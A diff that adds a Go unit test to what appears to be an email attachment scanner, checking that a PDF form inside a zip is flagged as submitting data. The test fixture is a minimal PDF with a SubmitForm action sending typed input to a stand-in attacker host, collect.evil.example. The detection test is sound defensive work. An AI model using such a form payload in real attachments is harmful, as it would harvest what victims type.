@@ -122,3 +122,13 @@ func TestZipFileType(t *testing.T) {
 		}
 	}
 }
+
+// TestZipPDFForm: a PDF form inside a zip marks where it sends what the
+// reader types, as the same PDF attached directly does.
+func TestZipPDFForm(t *testing.T) {
+	pdf := "%PDF-1.7\n<< /S /SubmitForm /F << /FS /URL /F (https://collect.evil.example/p) >> >>\n"
+	ls, err := Extract(zipMail("Content-Type: application/zip", ooxml(map[string]string{"form.pdf": pdf})), Options{})
+	if err != nil || len(ls) != 1 || ls[0].Kind != KindPDF || !ls[0].Flags.Has(FlagSubmits) {
+		t.Fatalf("Extract = %+v, %v; want one pdf link with FlagSubmits", ls, err)
+	}
+}
